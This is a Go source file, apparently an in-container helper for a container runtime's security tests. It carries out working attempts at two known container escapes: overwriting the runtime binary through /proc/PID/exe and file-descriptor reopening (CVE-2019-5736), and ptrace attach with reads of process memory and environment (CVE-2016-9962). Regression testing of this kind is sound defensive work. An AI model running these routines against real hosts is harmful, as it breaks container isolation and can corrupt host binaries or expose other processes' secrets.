package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// stopFile ends an attack loop when the test creates it in the container.
const stopFile = "/stop"

// recorder collects result lines, each once, and appends each to a file
// as it comes (a hung attack still leaves its trace).
type recorder struct {
	seen map[string]bool
	out  *os.File
}

func newRecorder(path string) (*recorder, error) {
	f, err := os.Create(path)
	if err != nil {
		return nil, err
	}
	return &recorder{seen: map[string]bool{}, out: f}, nil
}

func (r *recorder) add(format string, args ...any) {
	l := fmt.Sprintf(format, args...)
	if !r.seen[l] {
		r.seen[l] = true
		r.out.WriteString(l + "\n")
	}
}

func (r *recorder) save() error { return r.out.Close() }

// pids lists the processes visible in /proc but ours.
func pids() []int {
	ents, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range ents {
		if n, err := strconv.Atoi(e.Name()); err == nil && n != os.Getpid() {
			out = append(out, n)
		}
	}
	return out
}

func stopped() bool {
	_, err := os.Stat(stopFile)
	return err == nil
}

func comm(pid int) string {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/comm")
	if err != nil {
		return "-"
	}
	return strings.TrimSpace(string(b))
}

// exeAttack is CVE-2019-5736 from the container: for every new process,
// open /proc/PID/exe for writing, and keep an O_PATH handle of it; once the
// test says stop (the processes are gone, so ETXTBSY no longer protects the
// file), reopen each handle through /proc/self/fd for writing and write.
func exeAttack(out string) error {
	r, err := newRecorder(out)
	if err != nil {
		return err
	}
	held := map[int]int{} // pid -> O_PATH fd of its exe
	var order []int
	var mapHeld []int // O_PATH fds from map_files
	for !stopped() {
		time.Sleep(time.Millisecond)
		for _, pid := range pids() {
			if _, ok := held[pid]; ok {
				continue
			}
			p := "/proc/" + strconv.Itoa(pid) + "/exe"
			target, err := os.Readlink(p)
			if err == nil && (target == "/bin/busybox" || target == "/bin/esc") {
				continue
			}
			for _, m := range []struct {
				name  string
				flags int
			}{{"wronly", unix.O_WRONLY}, {"rdwr", unix.O_RDWR}} {
				fd, err := unix.Open(p, m.flags|unix.O_CLOEXEC, 0)
				if err == nil {
					_, err = unix.Write(fd, []byte("PWNED"))
					unix.Close(fd)
				}
				r.add("op=open-%s pid=%d comm=%s exe=%s result=%s", m.name, pid, comm(pid), target, result(err))
			}
			// map_files links to the file really mapped, which for an
			// overlayfs file may be the file below it.
			if maps, err := os.ReadDir("/proc/" + strconv.Itoa(pid) + "/map_files"); err == nil && len(maps) > 0 {
				fd, err := unix.Open("/proc/"+strconv.Itoa(pid)+"/map_files/"+maps[0].Name(), unix.O_PATH|unix.O_CLOEXEC, 0)
				if err == nil {
					mapHeld = append(mapHeld, fd)
				}
				r.add("op=map-files pid=%d comm=%s result=%s", pid, comm(pid), result(err))
			}
			fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
			r.add("op=open-path pid=%d comm=%s exe=%s result=%s", pid, comm(pid), target, result(err))
			if err == nil {
				held[pid] = fd
				order = append(order, pid)
			}
		}
	}
	targets := map[int]int{} // fd -> pid (0 for map_files handles)
	for _, pid := range order {
		targets[held[pid]] = pid
	}
	for _, fd := range mapHeld {
		targets[fd] = 0
	}
	for fd, pid := range targets {
		path := "/proc/self/fd/" + strconv.Itoa(fd)
		target, _ := os.Readlink(path)
		for _, m := range []struct {
			name  string
			flags int
		}{{"wronly", unix.O_WRONLY}, {"rdwr", unix.O_RDWR}, {"trunc", unix.O_WRONLY | unix.O_TRUNC}} {
			var err error
			for range 50 { // the process may still be exiting
				var w int
				if w, err = unix.Open(path, m.flags|unix.O_CLOEXEC, 0); err == nil {
					_, err = unix.Write(w, []byte("PWNED"))
					unix.Close(w)
				}
				if err != unix.ETXTBSY {
					break
				}
				time.Sleep(10 * time.Millisecond)
			}
			r.add("op=reopen-%s pid=%d exe=%s result=%s", m.name, pid, target, result(err))
		}
	}
	r.add("done held=%d", len(order))
	return r.save()
}

// ptraceAttack is CVE-2016-9962 from the container's pid 1: every process
// that appears is attacked while it is not yet the exec'd command ("sleep"
// in the test): PTRACE_ATTACH, PTRACE_SEIZE, process_vm_readv, and opening
// /proc/PID/mem and environ.
func ptraceAttack(out string) error {
	r, err := newRecorder(out)
	if err != nil {
		return err
	}
	done := map[int]bool{}
	for !stopped() {
		for _, pid := range pids() {
			if done[pid] {
				continue
			}
			before := comm(pid)
			if before == "sleep" || before == "-" {
				done[pid] = true
				continue
			}
			attack(r, pid, before)
			if comm(pid) == "sleep" {
				done[pid] = true
			}
		}
	}
	return r.save()
}

func attack(r *recorder, pid int, before string) {
	rec := func(op string, err error) {
		r.add("op=%s pid=%d before=%s after=%s result=%s", op, pid, before, comm(pid), result(err))
	}
	if err := unix.PtraceAttach(pid); err == nil {
		var ws unix.WaitStatus
		unix.Wait4(pid, &ws, unix.WALL, nil)
		rec("attach", nil) // comm read while the tracee is stopped
		unix.PtraceDetach(pid)
	} else {
		rec("attach", err)
	}
	if err := unix.PtraceSeize(pid); err == nil {
		rec("seize", nil)
		unix.PtraceInterrupt(pid)
		var ws unix.WaitStatus
		unix.Wait4(pid, &ws, unix.WALL, nil)
		unix.PtraceDetach(pid)
	} else {
		rec("seize", err)
	}
	base := "/proc/" + strconv.Itoa(pid)
	maps, err := os.ReadFile(base + "/maps")
	if err != nil || len(maps) == 0 {
		rec("maps", err)
	} else {
		start, _, _ := strings.Cut(string(maps), "-")
		addr, _ := strconv.ParseUint(start, 16, 64)
		buf := make([]byte, 8)
		_, err := unix.ProcessVMReadv(pid, []unix.Iovec{{Base: &buf[0], Len: 8}},
			[]unix.RemoteIovec{{Base: uintptr(addr), Len: 8}}, 0)
		rec("vm-readv", err)
	}
	for _, f := range []string{"mem", "environ"} {
		fd, err := unix.Open(base+"/"+f, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Read(fd, make([]byte, 16))
			unix.Close(fd)
		}
		rec(f, err)
	}
	// A stop left pending by an attach must not freeze the exec'd command.
	unix.Kill(pid, unix.SIGCONT)
}
